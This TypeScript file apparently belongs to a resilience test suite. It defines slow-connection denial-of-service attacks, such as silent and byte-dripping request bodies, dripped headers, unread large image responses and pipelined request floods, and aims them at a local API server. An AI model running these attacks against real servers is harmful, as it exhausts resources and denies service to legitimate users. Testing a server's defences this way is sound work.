import sharp from "sharp";
import type { FairAttack, HeldConnection, Target } from "../attack.ts";

/** Sizes that together fill a queue of the default settings to the last bytes, and then take its places. */
const sizes = {
  image: (index: number) => [...Array<number>(7).fill(35_900_000), 4_699_900][index] ?? 400,
  text: (index: number) => [...Array<number>(20).fill(6_100_000), 5_999_950][index] ?? 400,
};

/** The head of a request that announces a body, for images and texts in turn. */
function announcement({ key }: Target, index: number): string {
  const tool = index % 2 === 0 ? "image" : "text";
  const path = tool === "image" ? "/v1/tools/image-converter" : "/v1/tools/text-analyzer";
  return (
    `POST ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\n` +
    `Content-Length: ${sizes[tool](Math.floor(index / 2))}\r\n\r\n`
  );
}

function holding(
  connections: number,
  next: (target: Target, index: number) => HeldConnection,
): FairAttack["prepare"] {
  return (target) => (attacker) => attacker.hold(connections, (index) => next(target, index));
}

function silent(count: number): FairAttack {
  return {
    name: `silent-${count}`,
    description: `${count} connections to each tool that announce a large body and send nothing`,
    alsoFromSharedAddress: count === 32 || count === 256,
    prepare: holding(2 * count, (target, index) => ({
      start: announcement(target, index),
      endsAtAnswer: true,
    })),
  };
}

function dripping(count: number): FairAttack {
  return {
    name: `drip-${count}`,
    description: `${count} connections to each tool that announce a large body and send a byte a second`,
    alsoFromSharedAddress: count === 32,
    prepare: holding(2 * count, (target, index) => ({
      start: announcement(target, index),
      drip: " ",
      endsAtAnswer: true,
    })),
  };
}

/** Noise that no format makes smaller. */
async function noise(width: number, height: number): Promise<Buffer> {
  const noise = { type: "gaussian", mean: 128, sigma: 60 } as const;
  return sharp({ create: { width, height, channels: 3, background: "white", noise } })
    .png()
    .toBuffer();
}

/** Connections that hold memory or a place of the server while the attacker does nothing. */
export const connectionAttacks: readonly FairAttack[] = [
  ...[8, 32, 256, 1000].map(silent),
  ...[32, 256].map(dripping),
  {
    name: "drip-headers",
    description: "1,000 connections that send their headers a byte a second",
    prepare: holding(1000, () => ({ start: "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: ", drip: "a" })),
  },
  {
    name: "slow-images",
    description: "16 connections that do not read the 12 MB answers of conversions",
    async prepare(target) {
      const image = await noise(2000, 1500);
      const start = Buffer.concat([
        Buffer.from(
          `POST /v1/tools/image-converter?format=png HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${target.key}\r\n` +
            `Content-Type: image/png\r\nContent-Length: ${image.length}\r\n\r\n`,
        ),
        image,
      ]);
      return (attacker) => attacker.hold(16, () => ({ start, reads: false }));
    },
  },
  {
    name: "slow-pipelines",
    description: "64 connections that pipeline 1,000 requests for large public answers and read none",
    prepare: holding(64, () => ({
      start: "GET /openapi.json HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".repeat(1000),
      reads: false,
    })),
  },
  {
    name: "pipelines",
    description: "16 connections that pipeline 5,000 profile calls each and read the answers",
    prepare: holding(16, ({ key }) => ({
      start:
        `GET /v1/user/profile HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${key}\r\n\r\n`.repeat(
          5000,
        ),
    })),
  },
];
